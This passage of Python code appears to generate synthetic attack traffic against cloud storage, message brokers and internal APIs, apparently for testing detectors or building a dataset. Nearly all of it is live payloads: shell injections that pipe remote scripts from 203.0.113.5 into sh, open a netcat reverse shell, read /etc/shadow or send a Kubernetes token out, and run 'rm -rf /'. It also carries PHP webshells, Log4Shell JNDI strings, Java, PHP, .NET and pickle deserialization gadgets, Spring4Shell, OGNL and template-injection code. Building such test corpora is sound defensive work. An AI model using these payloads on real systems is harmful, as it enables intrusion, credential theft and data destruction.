    "| powershell -nop -w hidden -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAA==",
    "$(curl${IFS}-s${IFS}http://203.0.113.5/s|sh)",
    "; /???/??t /???/p??s??",
    ";{cat,/etc/shadow}",
    "; nslookup $(whoami).oast.example.org",
    "`nc -e /bin/sh 203.0.113.66 4444`",
    "\nrm -rf / --no-preserve-root\n",
    ";$u/bin$u/sh -c 'id'",
    "| curl -d @/var/run/secrets/kubernetes.io/serviceaccount/token http://203.0.113.5/",
    "';exec('/bin/sh')#",
    "$(printf '\\x69\\x64')",
]


def gen_rce(n):
    points = ["convert-json", "backup-name", "restic-paths", "key-backtick", "imagetragick", "shellshock", "thumb-param",
              "hook-form", "ce-subject", "velero-portal", "archive-filename", "transcode-options"]
    for i in range(n):
        pl = RCE[(i * 7) % len(RCE)]
        point = points[i % len(points)]
        bucket = pick(BUCKETS)
        # "%0a" is how a newline separator travels in a URL; elsewhere it is a real newline
        pl = pl.replace("%0a", "\n")
        if point in ("ce-subject", "shellshock") and "\n" in pl:
            pl = pick(["; id", "$(id)", "`uname -a`"])
        if point == "convert-json":
            body = jdump({"bucket": bucket, "key": "uploads/report.docx" + pl, "format": "pdf"})
            attack("rce", "converter-key", "POST", "/api/v1/convert", api_headers("converter.media.svc.cluster.local:8080", "application/json",
                                                                                     auth=bearer()), body)
        elif point == "backup-name":
            body = jdump({"name": "nightly" + pl, "schedule": "0 2 * * *", "bucket": "backups", "retention": "7d"})
            attack("rce", "backup-job-name", "POST", "/api/v1/backup-jobs", api_headers("backup-manager.backup.svc.cluster.local:8080",
                                                                                      "application/json", auth=bearer()), body)
        elif point == "restic-paths":
            body = jdump({"repository": "s3:http://minio.minio.svc:9000/restic-repo/prod", "paths": ["/data" + pl], "tags": ["manual"]})
            attack("rce", "restic-wrapper-paths", "POST", "/api/v1/restic/backup", api_headers("restic-ui.backup.svc.cluster.local:8080",
                                                                                            "application/json", auth=bearer()), body)
        elif point == "key-backtick":
            h = pick(S3_HOSTS)
            key = "incoming/scan" + pl + ".pdf"
            attack("rce", "watched-bucket-key", "PUT", "/%s/%s" % (bucket, qkey(key)),
                   s3_headers("minio", h, body="%PDF-1.7\n%%EOF\n", ctype="application/pdf"), "%PDF-1.7\n%%EOF\n")
        elif point == "imagetragick":
            body = pick(['push graphic-context\nviewbox 0 0 640 480\nfill \'url(https://example.com/image.jpg"|curl -s http://203.0.113.5/x|sh")\'\npop graphic-context\n',
                         '<?xml version="1.0" standalone="no"?>\n<svg width="640px" height="480px" xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
                         '<image xlink:href="https://example.com/image.jpg&quot;|id; &quot;" x="0" y="0" height="640px" width="480px"/></svg>\n',
                         '%!PS\nuserdict /setpagedevice undef\nsave\nlegal\n{ null restore } stopped { pop } if\n{ legal } stopped { pop } if\nrestore\nmark /OutputFile (%pipe%id) currentdevice putdeviceprops\n'])
            h, p = s3_loc("media-uploads", "avatars/%s.%s" % (hexs(8), "svg" if body.startswith("<?xml") else pick(["jpg", "png"])))
            attack("rce", "image-converter-payload", "PUT", p, s3_headers("gov2", h, body=body, ctype=pick(["image/jpeg", "image/svg+xml"])), body)
        elif point == "shellshock":
            h = pick(["backup-portal.corp.example.net", "s3.corp.example.net"])
            ua = pick(["() { :; }; /bin/bash -c 'curl http://203.0.113.5/s | sh'", "() { ignored;}; echo; /bin/cat /etc/passwd",
                       "() { :;}; /bin/sleep 10"])
            attack("rce", "cgi-shellshock", "GET", "/cgi-bin/%s" % pick(["s3-list.cgi", "status.sh", "backup.cgi"]),
                   [["Host", h], ["User-Agent", ua], ["Accept", "*/*"], ["Referer", "() { :; }; echo vulnerable"]])
        elif point == "thumb-param":
            v = pick(["100x100", "256x256"]) + pl
            attack("rce", "thumbnail-size", "GET", "/resize?src=%s&size=%s" % (q("s3://media-uploads/a.jpg"), q(v)),
                   [["Host", "thumbnailer.media.svc.cluster.local:8080"], ["User-Agent", pick(UA_BROWSER)], ["Accept", "image/*"]])
        elif point == "hook-form":
            body = "bucket=%s&event=put&hook_arg=%s" % (bucket, q(pl).replace("%20", "+"))
            attack("rce", "hook-argument-form", "POST", "/hooks/on-upload", browser_headers("hooks.storage.svc.cluster.local:9090", "/hooks", False,
                                                                                            ctype="application/x-www-form-urlencoded"), body)
        elif point == "ce-subject":
            body = jdump({"bucket": bucket, "size": 1024})
            hdrs = [["Host", "legacy-archiver.default.svc.cluster.local"], ["User-Agent", "Go-http-client/1.1"], ["Content-Type", "application/json"],
                    ["Ce-Id", uuid4()], ["Ce-Source", "minio:s3//%s" % bucket], ["Ce-Specversion", "1.0"],
                    ["Ce-Type", "io.minio.s3.objectcreated"], ["Ce-Subject", "incoming/file.tar" + pl]]
            attack("rce", "cloudevent-subject-cmd", "POST", "/", hdrs, body)
        elif point == "velero-portal":
            attack("rce", "velero-portal-restore", "POST", "/api/restores?backup=%s&namespace=%s" % (q("daily-20240517" + pl), "default"),
                   api_headers("velero-ui.velero.svc.cluster.local:3000", auth=bearer(), ua=pick(UA_BROWSER)))
        elif point == "archive-filename":
            bnd = "----WebKitFormBoundary" + hexs(16)
            fname = "photos" + pl + ".zip"
            body = ('--%s\r\nContent-Disposition: form-data; name="bucket"\r\n\r\n%s\r\n--%s\r\nContent-Disposition: form-data; name="file"; '
                    'filename="%s"\r\nContent-Type: application/zip\r\n\r\nPK\x03\x04\r\n--%s--\r\n') % (bnd, bucket, bnd, fname.replace('"', "'"), bnd)
            attack("rce", "upload-archive-filename", "POST", "/api/v1/upload/extract",
                   browser_headers("files.corp.example.net", "/upload", True, ctype="multipart/form-data; boundary=" + bnd), body)
        else:
            body = jdump({"input": "s3://media-uploads/raw/%s.mov" % hexs(6), "output": "s3://media-uploads/hls/",
                          "ffmpeg_args": "-vf scale=1280:-2" + pl})
            attack("rce", "transcode-options", "POST", "/api/v1/transcode", api_headers("transcoder.media.svc.cluster.local:8080",
                                                                                     "application/json", auth=bearer()), body)


# ---------------------------------------------------------------------------
# php: wrappers, webshell uploads to served buckets, serialized objects
# ---------------------------------------------------------------------------

PHP_SER = [
    'O:40:"Illuminate\\Broadcasting\\PendingBroadcast":2:{s:9:"\x00*\x00events";O:15:"Faker\\Generator":1:{s:13:"\x00*\x00formatters";a:1:{s:8:"dispatch";s:6:"system";}}s:8:"\x00*\x00event";s:2:"id";}',
    'a:2:{i:0;O:8:"stdClass":1:{s:4:"file";s:11:"/etc/passwd";}i:1;O:31:"GuzzleHttp\\Cookie\\FileCookieJar":1:{s:41:"\x00GuzzleHttp\\Cookie\\FileCookieJar\x00filename";s:19:"/var/www/html/x.php";}}',
    'O:29:"Monolog\\Handler\\SyslogUdpHandler":1:{s:9:"\x00*\x00socket";O:29:"Monolog\\Handler\\BufferHandler":1:{s:10:"\x00*\x00handler";N;}}',
    'O:21:"JDatabaseDriverMysqli":3:{s:4:"\\0\\0\\0a";O:17:"JSimplepieFactory":0:{}s:21:"\\0\\0\\0disconnectHandlers";a:1:{i:0;a:2:{i:0;O:9:"SimplePie":5:{s:8:"sanitize";O:20:"JDatabaseDriverMysql":0:{}s:5:"cache";b:1;s:19:"cache_name_function";s:6:"assert";}i:1;s:4:"init";}}}',
]


def gen_php(n):
    for i in range(n):
        k = i % 8
        bucket = pick(["static-assets", "media-uploads", "www"])
        if k == 0:
            shell = (lambda l: l[(i // 8) % len(l)])(["<?php system($_GET['c']); ?>", "<?=`$_GET[0]`?>", "<?php @eval(base64_decode($_POST['x'])); ?>",
                          "GIF89a;<?php passthru($_REQUEST['cmd']); ?>"])
            h, p = s3_loc(bucket, pick(["uploads/avatar.php", "wp-content/uploads/2024/05/img.php", "images/logo.php.jpg", "x.phtml"]))
            attack("php", "webshell-upload", "PUT", p, s3_headers(pick(["minio", "rclone", "boto3"]), h, body=shell,
                                                                  ctype=pick(["image/gif", "application/x-httpd-php", "image/jpeg"])), shell)
        elif k == 1:
            w = (lambda l: l[(i // 8) % len(l)])(["php://filter/convert.base64-encode/resource=../config.php", "php://filter/read=string.rot13/resource=index.php",
                      "pHp://FilTer/convert.iconv.utf-8.utf-16/resource=/etc/passwd", "php%3A%2F%2Ffilter%2Fconvert.base64-encode%2Fresource%3Dwp-config.php"])
            attack("php", "wrapper-filter", "GET", "/filemanager/index.php?p=%s&view=%s" % (pick(BUCKETS), w),
                   [["Host", "files.corp.example.net"], ["User-Agent", pick(UA_BROWSER)], ["Accept", "*/*"]])
        elif k == 2:
            w = (lambda l: l[(i // 8) % len(l)])(["data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==", "data:text/plain,<?php phpinfo();?>",
                      "expect://id", "phar:///var/www/uploads/avatar.jpg/test.txt", "zip://uploads/evil.zip%23shell.php"])
            attack("php", "wrapper-include", "GET", "/s3browser/index.php?page=%s" % w,
                   [["Host", "storage-portal.apps.example.net"], ["User-Agent", pick(UA_BROWSER)], ["Accept", "*/*"]])
        elif k == 3:
            ser = PHP_SER[(i // 8) % len(PHP_SER)]
            body = jdump({"records": [{"value": b64(ser.encode("latin-1"))}]})
            attack("php", "kafka-php-serialized", "POST", "/topics/%s" % pick(["jobs.laravel", "cache-invalidation"]),
                   api_headers(pick(KAFKA_REST), "application/vnd.kafka.binary.v2+json", "application/vnd.kafka.v2+json"), body)
        elif k == 4:
            ser = PHP_SER[(i // 8 + 1) % len(PHP_SER)]
            body = jdump({"properties": {"content_type": "application/x-php-serialized"}, "routing_key": "laravel.jobs",
                          "payload": ser.replace("\x00", "\\0"), "payload_encoding": "string"})
            attack("php", "rabbit-php-serialized", "POST", "/api/exchanges/%2F/amq.default/publish", rabbit_headers(pick(RABBIT), "application/json"), body)
        elif k == 5:
            v = (lambda l: l[(i // 8) % len(l)])(["${@system(id)}", "phpinfo();", "';system('id');//", "{${passthru(chr(105).chr(100))}}", "1;eval($_SERVER['HTTP_X_CMD']);"])
            attack("php", "code-injection-param", "GET", "/gallery/view.php?album=%s&sort=%s" % (pick(["summer", "2024"]), q(v)),
                   [["Host", "gallery.media.svc.cluster.local"], ["User-Agent", pick(UA_BROWSER)], ["Accept", "text/html"],
                    ["X-Cmd", "id"]])
        elif k == 6:
            ser = PHP_SER[(i // 8 + 2) % len(PHP_SER)]
            attack("php", "cookie-php-serialized", "GET", "/filemanager/index.php?p=backups",
                   [["Host", "files.corp.example.net"], ["User-Agent", pick(UA_BROWSER)], ["Accept", "text/html"],
                    ["Cookie", "fm_prefs=%s; PHPSESSID=%s" % (q(ser), hexs(26))]])
        else:
            body = "------x\r\nContent-Disposition: form-data; name=\"file\"; filename=\"%s\"\r\nContent-Type: image/png\r\n\r\n\x89PNG\r\n<?php echo shell_exec($_GET['e']); ?>\r\n------x--\r\n" % ["shell.pHp5", "avatar.png.phar", "x.php;.png", "cmd.PHTML"][(i // 8) % 4]
            attack("php", "portal-upload-php", "POST", "/filemanager/index.php?p=uploads&upload",
                   browser_headers("files.corp.example.net", "/filemanager/", True, ctype="multipart/form-data; boundary=----x"), body)


# ---------------------------------------------------------------------------
# java: Log4Shell, Java deserialization, SpEL / OGNL, JNDI in connector configs
# ---------------------------------------------------------------------------

def jndi(i):
    cb = pick(["203.0.113.21:1389", "oast.example.org", "x%s.dnslog.example.net" % hexs(6), "198.51.100.4:1099"])
    forms = [
        "${jndi:ldap://%s/a}" % cb,
        "${${lower:j}ndi:${lower:l}dap://%s/Exploit}" % cb,
        "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://%s/o}" % cb,
        "${jndi:dns://%s/x}" % cb,
        "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//%s/z}" % cb,
        "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://%s/k}" % cb,
        "${jndi:ldaps://%s/${env:AWS_SECRET_ACCESS_KEY}}" % cb,
        "${${upper:j}ndi:${upper:i}iop://%s/q}" % cb,
        "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://%s/d}" % cb,
        "${jnd${123%%25ff:-${123%%25ff:-i:}}ldap://%s/p}" % cb,
        "${jndi:rmi://%s/${sys:java.version}}" % cb,
        "${${lower:${lower:jndi}}:${lower:ldap}://%s/u}" % cb,
    ]
    return forms[i % len(forms)]


def java_serialized(gadget):
    def u2(n):
        return bytes([(n >> 8) & 0xFF, n & 0xFF])

    def cls(name):
        b = name.encode()
        return b"\x73\x72" + u2(len(b)) + b + bytes(R.randrange(256) for _ in range(8)) + b"\x02\x00\x01\x4c\x00\x01\x78\x74\x00\x12Ljava/lang/Object;\x78\x70"

    def tstr(s):
        b = s.encode()
        return b"\x74" + u2(len(b)) + b
    chains = {
        "cc": ["java.util.PriorityQueue", "org.apache.commons.collections4.comparators.TransformingComparator",
               "org.apache.commons.collections4.functors.ChainedTransformer", "org.apache.commons.collections4.functors.InvokerTransformer"],
        "cb": ["java.util.PriorityQueue", "org.apache.commons.beanutils.BeanComparator",
               "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl"],
        "urldns": ["java.util.HashMap", "java.net.URL"],
        "jdk7u21": ["java.util.LinkedHashSet", "sun.reflect.annotation.AnnotationInvocationHandler", "javax.xml.transform.Templates"],
        "c3p0": ["com.mchange.v2.c3p0.PoolBackedDataSource", "com.mchange.v2.c3p0.impl.PoolBackedDataSourceBase"],
        "spring": ["org.springframework.core.SerializableTypeWrapper$MethodInvokeTypeProvider",
                   "org.springframework.beans.factory.support.AutowireUtils$ObjectFactoryDelegatingInvocationHandler"],
    }
    out = b"\xac\xed\x00\x05"
    for c in chains[gadget]:
        out += cls(c)
    out += tstr("getRuntime") + tstr("exec") + tstr(pick(["bash -c {echo,Y3VybCBodHRwOi8vMjAzLjAuMTEzLjUvc3xzaA==}|{base64,-d}|{bash,-i}",
                                                          "http://%s.oast.example.org/" % hexs(8), "touch /tmp/pwned"]))
    return out


def gen_java(n):
    items = []
    # Log4Shell through headers, keys, messages
    for j in range(10):
        items.append(("log4shell", j))
    for g in ["cc", "cb", "urldns", "jdk7u21", "c3p0", "spring"]:
        items.append(("deser", g))
    items += [("kafka-connect-jaas", 0), ("spring-cloud-function", 0), ("spring4shell", 0), ("jackson", 0), ("fastjson", 0),
              ("ognl", 0), ("snakeyaml", 0), ("kafka-connect-jaas", 1)]
    for idx in range(n):
        kind, arg = items[idx % len(items)]
        bucket = pick(BUCKETS)
        if kind == "log4shell":
            pl = jndi(arg)
            k = arg % 10
            if k == 0:
                h, p = s3_loc(bucket, rand_key())
                attack("java", "log4shell-user-agent", "GET", p, [["Host", h], ["User-Agent", pl], ["Accept", "*/*"]])
            elif k == 1:
                h, p = s3_loc(bucket, rand_key())
                hdrs = s3_headers("boto3", h, body="a", ctype="text/plain", extra=[["x-amz-meta-owner", pl]])
                attack("java", "log4shell-metadata", "PUT", p, hdrs, "a")
            elif k == 2:
                attack("java", "log4shell-x-api-version", "GET", "/admin/v2/tenants", api_headers(pick(PULSAR), auth=bearer(),
                                                                                                 extra=[["X-Api-Version", pl]]))
            elif k == 3:
                body = jdump({"records": [{"value": {"event": "login", "user": pl}}]})
                attack("java", "log4shell-kafka-value", "POST", "/topics/audit.log",
                       api_headers(pick(KAFKA_REST), "application/vnd.kafka.json.v2+json", "application/vnd.kafka.v2+json"), body)
            elif k == 4:
                attack("java", "log4shell-forwarded-for", "GET", "/%s?list-type=2&prefix=logs%%2F" % bucket,
                       s3_headers("gov2", pick(S3_HOSTS)) + [["X-Forwarded-For", pl]])
            elif k == 5:
                attack("java", "log4shell-key-encoded", "GET", "/%s/%s" % (bucket, q(pl, safe="")),
                       [["Host", pick(S3_HOSTS)], ["User-Agent", "curl/8.5.0"], ["Accept", "*/*"]])
            elif k == 6:
                body = jdump(kafka_value())
                attack("java", "log4shell-cloudevent", "POST", "/orders/default",
                       [["Host", pick(KN_BROKERS)], ["User-Agent", "CloudEvents-Java/2.5.0"], ["Content-Type", "application/json"],
                        ["Ce-Id", uuid4()], ["Ce-Source", pl], ["Ce-Specversion", "1.0"], ["Ce-Type", "com.example.order.created"]], body)
            elif k == 7:
                body = jdump({"properties": {}, "routing_key": "audit", "payload": "user login failed for " + pl, "payload_encoding": "string"})
                attack("java", "log4shell-rabbit-payload", "POST", "/api/exchanges/%2F/amq.default/publish", rabbit_headers(pick(RABBIT), "application/json"), body)
            elif k == 8:
                attack("java", "log4shell-referer", "GET", "/api/v1/buckets", browser_headers(pick(CONSOLE_HOSTS), "/browser", True) + [["Referer", pl]])
            else:
                attack("java", "log4shell-query", "GET", "/admin/v2/persistent/public/default?role=%s" % q(pl),
                       api_headers(pick(PULSAR), auth=bearer()))
        elif kind == "deser":
            blob = base64.b64encode(java_serialized(arg)).decode()
            k = ["cc", "cb", "urldns", "jdk7u21", "c3p0", "spring"].index(arg)
            if k in (0, 1):
                body = jdump({"records": [{"key": b64("k"), "value": blob}]})
                attack("java", "kafka-java-serialized", "POST", "/topics/%s" % pick(["orders.v1", "payments"]),
                       api_headers(pick(KAFKA_REST), "application/vnd.kafka.binary.v2+json", "application/vnd.kafka.v2+json"), body)
            elif k == 2:
                body = jdump({"producerName": "p", "messages": [{"payload": blob, "properties": {"type": "java"}}]})
                attack("java", "pulsar-java-serialized", "POST", "/topics/persistent/public/default/orders-v1",
                       api_headers(pick(PULSAR), "application/json", auth=bearer()), body)
            elif k == 3:
                body = jdump({"properties": {"content_type": "application/x-java-serialized-object"}, "routing_key": "orders.created",
                              "payload": blob, "payload_encoding": "base64"})
                attack("java", "rabbit-java-serialized", "POST", "/api/exchanges/%2F/amq.default/publish", rabbit_headers(pick(RABBIT), "application/json"), body)
            elif k == 4:
                attack("java", "cookie-java-serialized", "GET", "/admin/",
                       [["Host", "pulsar-manager.pulsar.svc.cluster.local:9527"], ["User-Agent", pick(UA_BROWSER)], ["Accept", "text/html"],
                        ["Cookie", "rememberMe=%s" % blob]])
            else:
                body = jdump([{"key": "session-%s" % hexs(12), "value": blob, "metadata": {"contentType": "application/x-java-serialized-object"}}])
                attack("java", "dapr-state-java-serialized", "POST", "/v1.0/state/statestore",
                       api_headers(pick(DAPR), "application/json", ua="Java-http-client/17.0.10"), body)
        elif kind == "kafka-connect-jaas":
            cfg = {"connector.class": "io.confluent.connect.s3.S3SinkConnector", "topics": "orders.v1", "s3.bucket.name": "data-lake",
                   "store.url": "http://minio.minio.svc:9000",
                   "producer.override.sasl.jaas.config" if arg == 0 else "consumer.override.sasl.jaas.config":
                       'com.sun.security.auth.module.JndiLoginModule required user.provider.url="ldap://203.0.113.21:1389/cn=x" '
                       'useFirstPass="true" serviceName="x" debug="true" group.provider.url="xxx";',
                   "producer.override.security.protocol" if arg == 0 else "consumer.override.security.protocol": "SASL_SSL",
                   "producer.override.sasl.mechanism" if arg == 0 else "consumer.override.sasl.mechanism": "PLAIN"}
            body = jdump({"name": "s3-sink-%s" % hexs(4), "config": cfg})
            attack("java", "kafka-connect-jndi-jaas", "POST", "/connectors", api_headers("kafka-connect.kafka.svc.cluster.local:8083",
                                                                                       "application/json"), body)
        elif kind == "spring-cloud-function":
            attack("java", "spel-routing-expression", "POST", "/functionRouter",
                   [["Host", "fn-router.events.svc.cluster.local:8080"], ["User-Agent", "python-requests/2.31.0"], ["Accept", "*/*"],
                    ["Content-Type", "text/plain"],
                    ["spring.cloud.function.routing-expression", 'T(java.lang.Runtime).getRuntime().exec("curl http://203.0.113.5/x -o /tmp/x")']],
                   "data")
        elif kind == "spring4shell":
            body = ("class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di%20if(%22j%22.equals(request.getParameter(%22pwd%22)))"
                    "%7B%20java.io.InputStream%20in%20%3D%20%25%7Bc1%7Di.getRuntime().exec(request.getParameter(%22cmd%22)).getInputStream()%3B%20%7D"
                    "&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp"
                    "&class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT"
                    "&class.module.classLoader.resources.context.parent.pipeline.first.prefix=tomcatwar"
                    "&class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat=")
            attack("java", "spring4shell-binding", "POST", "/api/uploads/metadata",
                   [["Host", "upload-api.storage.svc.cluster.local:8080"], ["User-Agent", "python-requests/2.31.0"],
                    ["Content-Type", "application/x-www-form-urlencoded"], ["suffix", "%>//"], ["c1", "Runtime"], ["c2", "<%"]], body)
        elif kind == "jackson":
            body = jdump({"bucket": "data-lake", "source": ["com.sun.rowset.JdbcRowSetImpl", {"dataSourceName": "ldap://203.0.113.21:1389/Obj",
                                                                                             "autoCommit": True}]})
            attack("java", "jackson-polymorphic", "POST", "/api/v1/ingest/jobs", api_headers("ingest-api.data.svc.cluster.local:8080", "application/json",
                                                                                           auth=bearer()), body)
        elif kind == "fastjson":
            body = '{"meta":{"@type":"java.lang.Class","val":"com.sun.rowset.JdbcRowSetImpl"},"x":{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://198.51.100.4:1099/Exploit","autoCommit":true}}'
            attack("java", "fastjson-autotype", "POST", "/dapr/subscribe/orders", api_headers("orders-consumer.orders.svc.cluster.local:8080",
                                                                                            "application/json"), body)
        elif kind == "ognl":
            ct = ("%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):"
                  "((#container=#context['com.opensymphony.xwork2.ActionContext.container']).(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class))"
                  ".(#ognlUtil.getExcludedPackageNames().clear()).(#context.setMemberAccess(#dm)))).(#cmd='id').(#p=new java.lang.ProcessBuilder({'/bin/sh','-c',#cmd}))"
                  ".(#p.redirectErrorStream(true)).(#process=#p.start())}")
            attack("java", "ognl-content-type", "POST", "/legacy-upload/upload.action",
                   [["Host", "files.corp.example.net"], ["User-Agent", pick(UA_BROWSER)], ["Content-Type", ct]], "x")
        else:
            body = ("bucket: data-lake\nformat: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL "
                    "[\"http://203.0.113.5/yaml-payload.jar\"]]]]\n")
            attack("java", "snakeyaml-config", "PUT", "/api/v1/pipelines/orders/config",
                   api_headers("ingest-api.data.svc.cluster.local:8080", "application/yaml", auth=bearer()), body)


# ---------------------------------------------------------------------------
# ssti: template expressions in notification templates, messages, metadata
# ---------------------------------------------------------------------------

SSTI = [
    "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('cat /etc/passwd').read() }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}{{x()._module.__builtins__['__import__']('os').popen('id').read()}}{% endif %}{% endfor %}",
    "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|attr('popen')('id')|attr('read')()}}",
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    "${\"freemarker.template.utility.Execute\"?new()(\"cat /etc/passwd\")}",
    "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null).exec(\"id\")",
    "__${T(java.lang.Runtime).getRuntime().exec(\"id\")}__::.x",
    "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}",
    "<%= `id` %>",
    "<%= File.open('/etc/passwd').read %>",
    "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub \"constructor\")}}{{/with}}{{/with}}{{/with}}",
    "{php}echo `id`;{/php}",
    "{{constructor.constructor('return process')().mainModule.require('child_process').execSync('id')}}",
    "{{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec('id') }}",
    "${{7*7}}{{lipsum.__globals__.os.popen('id').read()}}",
    "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('whoami')\")() }}",
]


def gen_ssti(n):
    points = ["template-api", "kafka-email", "meta-header", "share-message", "rabbit-email", "ce-data", "dapr-publish", "query-name"]
    for i in range(n):
        pl = SSTI[i % len(SSTI)]
        point = points[i % len(points)]
        if point == "template-api":
            body = jdump({"name": "object-created", "subject": "New file in {{ bucket }}", "body": "Hello,\n" + pl + "\n"})
            attack("ssti", "notification-template", "PUT", "/api/v1/notification-templates/object-created",
                   api_headers("notifier.storage.svc.cluster.local:8080", "application/json", auth=bearer()), body)
        elif point == "kafka-email":
            body = jdump({"records": [{"value": {"to": "ops@example.com", "subject": pl, "template": "generic", "locale": "en"}}]})
            attack("ssti", "kafka-email-subject", "POST", "/topics/email-outbox",
                   api_headers(pick(KAFKA_REST), "application/vnd.kafka.json.v2+json", "application/vnd.kafka.v2+json"), body)
        elif point == "meta-header":
            h, p = s3_loc(pick(BUCKETS), "shared/%s.pdf" % hexs(6))
            attack("ssti", "object-metadata-template", "PUT", p, s3_headers("gov2", h, body="%PDF-1.4\n", ctype="application/pdf",
                                                                             extra=[["x-amz-meta-share-note", pl]]), "%PDF-1.4\n")
        elif point == "share-message":
            body = "bucket=%s&key=%s&recipient=%s&message=%s" % (pick(BUCKETS), q(rand_key()), q("bob@example.com"), q(pl))
            attack("ssti", "share-link-message", "POST", "/share", browser_headers("files.corp.example.net", "/share", False,
                                                                                ctype="application/x-www-form-urlencoded"), body)
        elif point == "rabbit-email":
            body = jdump({"properties": {"content_type": "application/json"}, "routing_key": "email.outbox",
                          "payload": jdump({"to": "x@example.com", "body": pl}), "payload_encoding": "string"})
            attack("ssti", "rabbit-email-body", "POST", "/api/exchanges/%2F/amq.default/publish", rabbit_headers(pick(RABBIT), "application/json"), body)
        elif point == "ce-data":
            body = jdump({"specversion": "1.0", "type": "com.example.alert", "source": "//monitor", "id": uuid4(),
                          "datacontenttype": "application/json", "data": {"summary": pl, "severity": "high"}})
            attack("ssti", "cloudevent-alert-summary", "POST", "/platform/default", [["Host", pick(KN_BROKERS)], ["User-Agent", "Go-http-client/1.1"],
                                                                                   ["Content-Type", "application/cloudevents+json"]], body)
        elif point == "dapr-publish":
            body = jdump({"orderId": R.randint(1, 9999), "giftMessage": pl})
            attack("ssti", "dapr-publish-gift-message", "POST", "/v1.0/publish/pubsub/orders", api_headers(pick(DAPR), "application/json",
                                                                                                     ua="axios/1.6.8"), body)
        else:
            attack("ssti", "landing-page-name", "GET", "/s/%s?name=%s" % (hexs(10), q(pl)),
                   [["Host", "share.example.net"], ["User-Agent", pick(UA_BROWSER)], ["Accept", "text/html"]])


# ---------------------------------------------------------------------------
# generic: other deserialization / injection classes
# ---------------------------------------------------------------------------

def pickle_payload(cmd):
    # protocol-0 pickle of os.system(cmd)
    return "cposix\nsystem\n(V%s\ntR." % cmd


def gen_generic(n):
    netpayload = {"$type": "System.Windows.Data.ObjectDataProvider, PresentationFramework, Version=4.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35",
                  "MethodName": "Start", "MethodParameters": {"$type": "System.Collections.ArrayList, mscorlib", "$values": ["cmd", "/c powershell -enc SQBFAFgA"]},
                  "ObjectInstance": {"$type": "System.Diagnostics.Process, System"}}
    cases = []
    cases.append(("prototype-pollution-dapr", "POST", "/v1.0/state/statestore", pick(DAPR), "application/json",
                  jdump([{"key": "prefs-1", "value": {"__proto__": {"isAdmin": True, "role": "admin"}}}])))
    cases.append(("prototype-pollution-constructor", "POST", "/api/v1/buckets/media-uploads/settings", "files.corp.example.net", "application/json",
                  jdump({"constructor": {"prototype": {"shell": "/proc/self/exe", "NODE_OPTIONS": "--require /proc/self/environ"}}})))
    cases.append(("prototype-pollution-query", "GET", "/api/v1/objects?bucket=media-uploads&__proto__[outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');s",
                  "files.corp.example.net", None, None))
    cases.append(("node-serialize", "POST", "/v1.0/state/statestore", pick(DAPR), "application/json",
                  jdump([{"key": "cart-9", "value": {"rce": "_$$ND_FUNC$$_function(){require('child_process').exec('curl http://203.0.113.5/n|sh')}()"}}])))
    cases.append(("node-serialize-cookie", "GET", "/dashboard", "upload-ui.storage.svc.cluster.local:3000", None, None))
    cases.append(("dotnet-jsonnet-type", "POST", "/v1.0/publish/pubsub/orders", pick(DAPR), "application/json", jdump(netpayload)))
    cases.append(("dotnet-jsonnet-kafka", "POST", "/topics/orders.v1", pick(KAFKA_REST), "application/vnd.kafka.json.v2+json",
                  jdump({"records": [{"value": netpayload}]})))
    cases.append(("dotnet-binaryformatter", "POST", "/api/exchanges/%2F/amq.default/publish", pick(RABBIT), "application/json",
                  jdump({"properties": {"content_type": "application/octet-stream"}, "routing_key": "billing",
